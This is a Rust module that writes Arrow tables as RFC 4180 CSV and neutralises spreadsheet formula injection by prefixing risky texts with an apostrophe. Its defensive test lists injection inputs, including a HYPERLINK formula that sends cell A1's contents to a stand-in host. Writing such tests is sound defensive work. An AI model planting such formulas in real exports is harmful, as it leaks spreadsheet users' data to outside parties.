//! CSV by RFC 4180, with numbers that readers parse back to the same bits. Spreadsheets run cells that begin
//! with certain characters as formulas, so such a text gets an apostrophe in front: a name or a param from
//! another user must not run. For other readers, texts can be left as they are.

use std::io::Write as _;

use arrow_array::{
    Array, ArrayRef, BooleanArray, DictionaryArray, Float64Array, Int64Array, ListArray, RecordBatch,
    StringArray, TimestampMicrosecondArray, UInt32Array, types::Int32Type,
};
use arrow_schema::{ArrowError, Schema};
use matyan_value::{
    datetime::UtcTime,
    json::{JsonStyle, write_text},
};

/// First characters of a formula, also in their full-width forms, which Excel treats alike in East Asian languages.
/// Spreadsheets skip tabs and line breaks before a formula.
const FORMULAS: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

/// The treatment of texts that look like formulas.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Formulas {
    /// They get an apostrophe, which makes them texts.
    Defused,
    Kept,
}

/// Writes a table as CSV into memory.
pub(crate) struct CsvWriter {
    written: Vec<u8>,
    formulas: Formulas,
}

/// A column of a batch.
enum Column<'a> {
    Boolean(&'a BooleanArray),
    Integer(&'a Int64Array),
    Natural(&'a UInt32Array),
    Float(&'a Float64Array),
    Time(&'a TimestampMicrosecondArray),
    Text(&'a StringArray),
    Texts(&'a ListArray),
    Dictionary(&'a DictionaryArray<Int32Type>, &'a StringArray),
}

impl CsvWriter {
    /// Writes the header.
    pub(crate) fn new(schema: &Schema, formulas: Formulas) -> Self {
        let mut written = Vec::new();
        for (at, field) in schema.fields().iter().enumerate() {
            if at > 0 {
                written.push(b',');
            }
            write_field(&mut written, field.name(), formulas);
        }
        written.extend_from_slice(b"\r\n");
        Self { written, formulas }
    }

    pub(crate) fn write(&mut self, rows: &RecordBatch) -> Result<(), ArrowError> {
        let columns = rows.columns().iter().map(Column::new).collect::<Result<Vec<_>, _>>()?;
        for row in 0..rows.num_rows() {
            for (at, column) in columns.iter().enumerate() {
                if at > 0 {
                    self.written.push(b',');
                }
                column.write(&mut self.written, row, self.formulas);
            }
            self.written.extend_from_slice(b"\r\n");
        }
        Ok(())
    }

    pub(crate) fn written_mut(&mut self) -> &mut Vec<u8> {
        &mut self.written
    }
}

impl<'a> Column<'a> {
    fn new(array: &'a ArrayRef) -> Result<Self, ArrowError> {
        let any = array.as_any();
        let column = None
            .or_else(|| any.downcast_ref().map(Self::Boolean))
            .or_else(|| any.downcast_ref().map(Self::Integer))
            .or_else(|| any.downcast_ref().map(Self::Natural))
            .or_else(|| any.downcast_ref().map(Self::Float))
            .or_else(|| any.downcast_ref().map(Self::Time))
            .or_else(|| any.downcast_ref().map(Self::Text))
            .or_else(|| any.downcast_ref().map(Self::Texts))
            .or_else(|| {
                let dictionary: &DictionaryArray<Int32Type> = any.downcast_ref()?;
                Some(Self::Dictionary(dictionary, dictionary.values().as_any().downcast_ref()?))
            });
        column.ok_or_else(|| ArrowError::CsvError(format!("no form for {}", array.data_type())))
    }

    fn is_null(&self, row: usize) -> bool {
        match self {
            Self::Boolean(array) => array.is_null(row),
            Self::Integer(array) => array.is_null(row),
            Self::Natural(array) => array.is_null(row),
            Self::Float(array) => array.is_null(row),
            Self::Time(array) => array.is_null(row),
            Self::Text(array) => array.is_null(row),
            Self::Texts(array) => array.is_null(row),
            Self::Dictionary(array, _) => array.is_null(row),
        }
    }

    /// Appends the value of a row; nothing if it is missing.
    fn write(&self, out: &mut Vec<u8>, row: usize, formulas: Formulas) {
        if self.is_null(row) {
            return;
        }
        let written = match self {
            Self::Boolean(array) => write!(out, "{}", array.value(row)),
            Self::Integer(array) => write!(out, "{}", array.value(row)),
            Self::Natural(array) => write!(out, "{}", array.value(row)),
            // The shortest text of the same float, `NaN`, `inf` or `-inf`.
            Self::Float(array) => write!(out, "{:?}", array.value(row)),
            Self::Time(array) => match UtcTime::from_us(array.value(row)) {
                Some(time) => write!(out, "{}", time.micros()),
                // No year with four digits.
                None => write!(out, "{}", array.value(row)),
            },
            Self::Text(array) => {
                write_field(out, array.value(row), formulas);
                Ok(())
            }
            Self::Texts(array) => {
                write_field(out, &json_list(&array.value(row)), formulas);
                Ok(())
            }
            Self::Dictionary(array, texts) => {
                let text = array.key(row).map_or("", |key| texts.value(key));
                write_field(out, text, formulas);
                Ok(())
            }
        };
        written.expect("writing to memory does not fail");
    }
}

fn json_list(texts: &ArrayRef) -> String {
    let texts = texts.as_any().downcast_ref::<StringArray>();
    let mut json = String::from("[");
    for (at, text) in texts.into_iter().flatten().flatten().enumerate() {
        json.push_str(if at > 0 { "," } else { "" });
        write_text(&mut json, text, JsonStyle::STRICT);
    }
    json.push(']');
    json
}

/// Appends a text, in quotes if it has to be. An empty text has quotes, because a missing one
/// has none.
fn write_field(out: &mut Vec<u8>, text: &str, formulas: Formulas) {
    let defused = match formulas {
        Formulas::Defused if is_formula(text) => Some(format!("'{text}")),
        Formulas::Defused | Formulas::Kept => None,
    };
    let text = defused.as_deref().unwrap_or(text);
    // Some spreadsheets also separate cells by semicolons or tabs.
    let is_plain = !text.bytes().any(|byte| matches!(byte, b',' | b';' | b'\t' | b'"' | b'\r' | b'\n'));
    let has_edge_space = text.starts_with(' ') || text.ends_with(' ');
    if !text.is_empty() && !has_edge_space && is_plain {
        out.extend_from_slice(text.as_bytes());
        return;
    }
    out.push(b'"');
    for byte in text.bytes() {
        if byte == b'"' {
            out.push(b'"');
        }
        out.push(byte);
    }
    out.push(b'"');
}

/// Whether a spreadsheet would run a text as a formula. A signed number is not a formula.
fn is_formula(text: &str) -> bool {
    text.starts_with(FORMULAS) && text.parse::<f64>().is_err()
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use arrow_array::builder::{ListBuilder, StringBuilder, StringDictionaryBuilder};

    use super::*;

    fn csv(column: ArrayRef, formulas: Formulas) -> String {
        let rows = RecordBatch::try_from_iter_with_nullable([("c", column, true)]).unwrap();
        let mut writer = CsvWriter::new(&rows.schema(), formulas);
        writer.write(&rows).unwrap();
        String::from_utf8(std::mem::take(writer.written_mut())).unwrap()
    }

    fn check(column: ArrayRef, expected: &[&str]) {
        let expected = format!("c\r\n{}\r\n", expected.join("\r\n"));
        assert_eq!(csv(column.clone(), Formulas::Defused), expected);
        assert_eq!(csv(column, Formulas::Kept), expected);
    }

    #[test]
    fn rule_76_a_text_is_no_formula() {
        let formulas = [
            "=1+1",
            "+A1",
            "-A1",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            "＝1",
            "＋A1",
            "－A1",
            "＠A1",
            "=HYPERLINK(\"http://x/?\"&A1,\"a\")",
        ];
        let numbers = ["-1", "+1.5e3", "-inf", "-0"];
        let others = ["a=b", "'=1", " =1", "a;=1", "a\t=1"];
        let texts = StringArray::from([formulas.as_slice(), &numbers, &others].concat());
        let expected = [
            "'=1+1",
            "'+A1",
            "'-A1",
            "'@SUM(A1)",
            "\"'\t=1\"",
            "\"'\r=1\"",
            "\"'\n=1\"",
            "'＝1",
            "'＋A1",
            "'－A1",
            "'＠A1",
            "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"a\"\")\"",
            "-1",
            "+1.5e3",
            "-inf",
            "-0",
            "a=b",
            "'=1",
            "\" =1\"",
            "\"a;=1\"",
            "\"a\t=1\"",
        ];
        assert_eq!(
            csv(Arc::new(texts.clone()), Formulas::Defused),
            format!("c\r\n{}\r\n", expected.join("\r\n"))
        );
        let kept = csv(Arc::new(texts), Formulas::Kept);
        assert!(
            kept.starts_with("c\r\n=1+1\r\n+A1\r\n-A1\r\n@SUM(A1)\r\n\"\t=1\"\r\n\"\r=1\"\r\n"),
            "{kept}"
        );
        let mut dictionary = StringDictionaryBuilder::<Int32Type>::new();
        dictionary.append_value("=1");
        assert_eq!(csv(Arc::new(dictionary.finish()), Formulas::Defused), "c\r\n'=1\r\n");
    }

    #[test]
    fn floats_have_the_fewest_digits() {
        let floats = vec![1.0, -0.0, 0.1, 5e-324, f64::MAX, f64::NAN, f64::INFINITY, -f64::INFINITY];
        let expected = ["1.0", "-0.0", "0.1", "5e-324", "1.7976931348623157e308", "NaN", "inf", "-inf"];
        check(Arc::new(Float64Array::from(floats)), &expected);
    }

    #[test]
    fn integers_and_times_are_exact() {
        check(
            Arc::new(Int64Array::from(vec![Some(i64::MIN), None, Some(i64::MAX)])),
            &["-9223372036854775808", "", "9223372036854775807"],
        );
        let times = TimestampMicrosecondArray::from(vec![-1, 0, i64::MAX]);
        let expected = ["1969-12-31T23:59:59.999999Z", "1970-01-01T00:00:00.000000Z", "9223372036854775807"];
        check(Arc::new(times), &expected);
    }

    #[test]
    fn texts_are_quoted_if_they_have_to_be() {
        let texts = vec![Some("plain"), Some(""), None, Some("a,b"), Some("\"\n"), Some(" ä")];
        check(Arc::new(StringArray::from(texts)), &["plain", "\"\"", "", "\"a,b\"", "\"\"\"\n\"", "\" ä\""]);
        let mut dictionary = StringDictionaryBuilder::<Int32Type>::new();
        dictionary.append_n("x,y", 2).unwrap();
        dictionary.append_null();
        check(Arc::new(dictionary.finish()), &["\"x,y\"", "\"x,y\"", ""]);
        let mut lists = ListBuilder::new(StringBuilder::new());
        lists.append_value([Some("a"), Some("b\"")]);
        lists.append_value(Vec::<Option<&str>>::new());
        check(Arc::new(lists.finish()), &[r#""[""a"",""b\""""]""#, "[]"]);
    }
}
